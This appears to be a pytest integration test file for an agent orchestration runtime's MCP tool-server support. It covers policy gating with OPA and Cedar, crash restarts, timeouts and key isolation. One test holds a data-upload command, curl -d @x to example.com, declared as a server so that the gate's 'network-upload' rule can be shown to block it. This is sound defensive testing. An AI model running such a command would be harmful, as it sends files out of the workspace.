"""MCP tool servers end to end: real SDK servers (tests/fakes/mcp_server.py) over stdio and
streamable HTTP, a model behind the OpenAI wire (tests/fakes/llm_server.py), through the real
``orga run`` (the embedded runtime: Redis, coordinator, reasoning and tool Celery workers) and
through a deployment (a real Redis, ``celery -A orga worker`` and ``orga coordinator``).

What the model is offered and what it reads back is taken from the requests it received."""

from __future__ import annotations

import json
import subprocess
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml

from orga.embedded_redis import EmbeddedRedis
from shared.task_spec import TaskSpec
from tests.fakes.llm_server import FakeOpenAIServer, RecordedRequest
from tests.fakes.mcp_http import HttpMcpServer, stdio_command
from tests.fakes.opa_server import FakeOpaServer
from tests.integration.harness import ORGA, REPO, Cluster, cli_env, wait_until
from workers.key_handoff import MODEL_KEY_VARIABLES

pytestmark = pytest.mark.integration

KEY = "sk-mcp-test"


def _task(servers: list[dict[str, Any]], **extra: Any) -> dict[str, Any]:
    return {
        "goal": "use the MCP tools",
        "idempotency_key": None,
        "provider": {"kind": "openai", "model": "gpt-test"},
        "steps": [{"id": "use", "instruction": "call the MCP tools"}],
        "mcp_servers": servers,
        "limits": {"tool_timeout": "6s", "max_iterations": 10},
        **extra,
    }


def _orga_run(
    tmp_path: Path, model: FakeOpenAIServer, task: dict[str, Any], **settings: str
) -> dict[str, Any]:
    """``orga run TASK --json`` on the embedded runtime (with the ``ORGA_*`` ``settings``);
    its result."""
    path = tmp_path / "task.yaml"
    path.write_text(yaml.safe_dump(task))
    env = cli_env(
        tmp_path, ORGA_PROVIDER="openai", ORGA_BASE_URL=model.base_url, ORGA_API_KEY=KEY,
        **settings,
    )  # fmt: skip
    run = subprocess.run(
        [str(ORGA), "run", str(path), "--json"], env=env, cwd=REPO, capture_output=True,
        text=True, timeout=240, check=False,
    )  # fmt: skip
    output = run.stdout[run.stdout.index("{") :] if "{" in run.stdout else "{}"
    result: dict[str, Any] = json.loads(output)
    result["_stderr"] = run.stderr
    result["_returncode"] = run.returncode
    return result


def _tool_replies(requests: list[RecordedRequest]) -> dict[str, str]:
    """Every tool result the model read: call id -> content."""
    seen: dict[str, str] = {}
    for request in requests:
        for message in request.body.get("messages", []):
            if message.get("role") == "tool":
                seen[message["tool_call_id"]] = message["content"]
    return seen


def _working_in(folder: Path) -> list[int]:
    """The processes whose current folder is in ``folder``."""
    found = []
    for cwd in Path("/proc").glob("[0-9]*/cwd"):
        try:
            if cwd.resolve().is_relative_to(folder.resolve()):
                found.append(int(cwd.parent.name))
        except OSError:
            continue
    return found


def _cmdline(pid: int) -> str:
    try:
        return Path(f"/proc/{pid}/cmdline").read_bytes().replace(b"\0", b" ").decode()
    except OSError:
        return "?"


def _offered(request: RecordedRequest) -> dict[str, dict[str, Any]]:
    return {t["function"]["name"]: t["function"] for t in request.body.get("tools", [])}


@pytest.fixture
def model() -> Iterator[FakeOpenAIServer]:
    """The model behind the OpenAI wire, asking for the calls each test queues."""
    with FakeOpenAIServer(api_key=KEY) as server:
        yield server


def test_orga_run_calls_a_stdio_server_gated_modified_denied_restarted_and_timed_out(
    tmp_path: Path, model: FakeOpenAIServer
) -> None:
    """`orga run` offers fake__* with the server's schemas; OPA (which sees mcp_server and
    mcp_tool) modifies one call and denies another; a crash is restarted and retried; a
    server that never answers fails the call naming it; the task still completes."""
    model.respond_tool_calls([("c1", "fake__echo", {"text": "original"})])
    model.respond_tool_calls([("c2", "fake__write_note", {"name": "n.txt", "text": "x"})])
    model.respond_tool_calls([("c3", "fake__crash_once", {})])
    model.respond_tool_calls([("c4", "fake__hang", {})])
    model.respond_tool_calls([("c5", "fake__environment", {})])
    model.respond_text("all MCP calls made")

    def decide(request: dict[str, Any]) -> object:
        if request.get("mcp_tool") == "write_note":
            return {"allow": False, "reason": "notes are read-only here"}
        if request.get("mcp_server") == "fake" and request.get("mcp_tool") == "echo":
            return {"allow": True, "modified_arguments": {"text": "modified"}}
        return True

    with FakeOpaServer() as opa:
        opa.set_decision("orga/allow", decide)
        task = _task(
            [{"name": "fake", "command": stdio_command()}],
            policy={"kind": "opa", "opa_url": opa.url},
            tool_recovery={"fake__hang": {"strategy": "retry", "max_attempts": 1}},
        )
        result = _orga_run(tmp_path, model, task)
        seen_by_opa = [q.input for q in opa.queries]
    assert result["status"] == "completed", result
    offered = _offered(model.requests[0])
    assert offered["fake__add"]["parameters"]["required"] == ["a", "b"]
    assert {"fake__echo", "fake__hang", "run_command"} <= set(offered)
    replies = _tool_replies(model.requests)
    assert replies["c1"] == "echo: modified"
    assert "notes are read-only here" in replies["c2"]
    assert replies["c3"] == "survived a restart"
    assert "fake__hang" in replies["c4"] and "timed out" in replies["c4"]
    seen = json.loads(replies["c5"])  # the server's environment, and its parent's (the worker)
    assert not (set(seen["names"]) | set(seen["parent_names"])) & MODEL_KEY_VARIABLES
    assert seen["parent_names"] and "ORGA_API_KEY" not in seen["names"]
    assert not list((tmp_path / "workspaces").rglob("n.txt"))
    calls = [q for q in seen_by_opa if q.get("type") == "tool_call" and "mcp_tool" in q]
    assert {(q["mcp_server"], q["mcp_tool"]) for q in calls} >= {("fake", "echo"), ("fake", "hang")}
    # The server's start was asked about first, as the run_command it is.
    start = next(q for q in seen_by_opa if q.get("tool_name") == "run_command")
    assert start["attributes"] == {"mcp_server": "fake", "mcp_server_start": True}
    assert start["arguments"]["command"].endswith("mcp_server.py")


def test_orga_run_calls_an_http_server_and_cedar_denies_by_server_and_tool(
    tmp_path: Path, model: FakeOpenAIServer
) -> None:
    """Over streamable HTTP: a call answers; a Cedar forbid on context.mcp_tool denies."""
    policy = tmp_path / "mcp.cedar"
    policy.write_text(
        "permit (principal, action, resource);\n"
        '@id("no-notes")\n'
        'forbid (principal, action == Action::"tool_call", resource)\n'
        '  when { context has mcp_server && context.mcp_server == "web"\n'
        '         && context.mcp_tool == "write_note" };\n'
    )
    model.respond_tool_calls([("c1", "web__add", {"a": 20, "b": 22})])
    model.respond_tool_calls([("c2", "web__write_note", {"name": "n.txt", "text": "x"})])
    model.respond_text("done over http")
    with HttpMcpServer(tmp_path / "http.log") as server:
        task = _task(
            [{"name": "web", "url": server.url}],
            policy={"kind": "cedar", "policy_files": [str(policy)]},
        )
        # The fake listens on 127.0.0.1, which a task's server reaches only when allowed.
        result = _orga_run(tmp_path, model, task, ORGA_ALLOW_PRIVATE_NETWORK="true")
    assert result["status"] == "completed", result
    replies = _tool_replies(model.requests)
    assert replies["c1"] == "42"
    assert "no-notes" in replies["c2"]


def test_orga_run_fails_the_step_naming_a_server_that_cannot_start(
    tmp_path: Path, model: FakeOpenAIServer
) -> None:
    """A server that cannot start fails the task with a configuration error naming it and its
    stderr, before any model call."""
    task = _task([{"name": "broken", "command": stdio_command("--fail-start")}])
    result = _orga_run(tmp_path, model, task)
    assert result["status"] == "failed", result
    assert "MCP server 'broken'" in result["error"], result
    assert "refusing to start" in result["error"]
    assert "appears stuck" not in result["error"]
    assert model.requests == []


def test_a_deployment_lists_and_calls_stdio_and_http_servers(
    tmp_path: Path, private_redis: EmbeddedRedis
) -> None:
    """Real Celery workers: a reasoning worker has a tool worker list the tools (kept in
    Redis); tool workers call a stdio server (restarting it once after a crash) and an HTTP
    server."""
    with FakeOpenAIServer(api_key=KEY) as model, HttpMcpServer(tmp_path / "http.log") as http:
        model.respond_tool_calls([("c1", "fake__echo", {"text": "deployed"})])
        model.respond_tool_calls([("c2", "fake__crash_once", {})])
        model.respond_tool_calls([("c3", "web__add", {"a": 1, "b": 2})])
        model.respond_text("deployment done")
        cluster = Cluster(private_redis.url, tmp_path / "cluster")
        cluster.root.mkdir()
        env = {"ORGA_PROVIDER": "openai", "ORGA_BASE_URL": model.base_url, "ORGA_API_KEY": KEY}
        try:
            # The HTTP fake listens on 127.0.0.1: a task's server reaches it only when allowed.
            cluster.worker(**env, ORGA_ALLOW_PRIVATE_NETWORK="true")
            cluster.coordinator(**env)
            client = cluster.client()
            task = _task(
                [
                    {"name": "fake", "command": stdio_command()},
                    {"name": "web", "url": http.url},
                ],
                policy={"kind": "permissive"},
            )
            task_id = client.submit(TaskSpec.model_validate(task))
            result = client.wait(task_id, timeout_s=180)
            assert result["status"] == "completed", (result, cluster.logs())
            replies = _tool_replies(model.requests)
            # The task ended: the tool worker closes its connections, and the stdio server
            # (the one process working in the task's workspace) is gone.
            try:
                wait_until(
                    lambda: not _working_in(cluster.workspaces),
                    timeout_s=120,
                    what="the MCP server to stop",
                )
            except AssertionError as exc:
                left = {pid: _cmdline(pid) for pid in _working_in(cluster.workspaces)}
                raise AssertionError(f"{exc}; still there: {left}\n{cluster.logs()}") from exc
        finally:
            cluster.stop()
    assert replies == {"c1": "echo: deployed", "c2": "survived a restart", "c3": "3"}
    assert {"fake__echo", "web__add"} <= set(_offered(model.requests[0]))


def test_a_task_server_the_gate_denies_fails_its_task_and_the_workers_go_on(
    tmp_path: Path, private_redis: EmbeddedRedis
) -> None:
    """Real Celery workers: a task declaring ``sh -c "curl -d @x http://example.com"`` as a
    stdio server fails with the configuration error naming the server, the default gate's rule
    and the fix, before any model call; the same worker processes then run another task's
    server and finish it."""
    with FakeOpenAIServer(api_key=KEY) as model:
        cluster = Cluster(private_redis.url, tmp_path / "cluster")
        cluster.root.mkdir()
        env = {"ORGA_PROVIDER": "openai", "ORGA_BASE_URL": model.base_url, "ORGA_API_KEY": KEY}
        try:
            cluster.worker(**env)
            cluster.coordinator(**env)
            client = cluster.client()
            upload = ["sh", "-c", "curl -d @x http://example.com"]
            denied = client.submit(
                TaskSpec.model_validate(_task([{"name": "up", "command": upload}]))
            )
            failed = client.wait(denied, timeout_s=180)
            asked_before = len(model.requests)
            model.respond_tool_calls([("c1", "fake__echo", {"text": "still serving"})])
            model.respond_text("done")
            fine = client.submit(
                TaskSpec.model_validate(_task([{"name": "fake", "command": stdio_command()}]))
            )
            result = client.wait(fine, timeout_s=180)
        finally:
            cluster.stop()
    assert failed["status"] == "failed", (failed, cluster.logs())
    error = failed["error"]
    assert "MCP server 'up'" in error and "rule 'network-upload'" in error, error
    assert "ORGA_MCP_SERVERS" in error and "change the task's policy" in error
    assert asked_before == 0  # refused before the model was asked anything
    assert result["status"] == "completed", (result, cluster.logs())
    assert _tool_replies(model.requests) == {"c1": "echo: still serving"}


def test_the_mcp_example_runs_with_orga_run(tmp_path: Path) -> None:
    """`orga run examples/mcp/task.yaml`: the notes server (over stdio, started with the
    worker's interpreter) multiplies and saves the note the step's check verifies."""
    run = subprocess.run(
        [str(ORGA), "run", "examples/mcp/task.yaml", "--json"], env=cli_env(tmp_path),
        cwd=REPO, capture_output=True, text=True, timeout=240, check=False,
    )  # fmt: skip
    result = json.loads(run.stdout[run.stdout.index("{") :])
    assert result["status"] == "completed", (result, run.stderr[-3000:])
    assert result["milestones"] == ["step:note"]
    notes = list((tmp_path / "workspaces").rglob("notes/answer.txt"))
    assert [n.read_text() for n in notes] == ["6 x 7 = 42\n"]
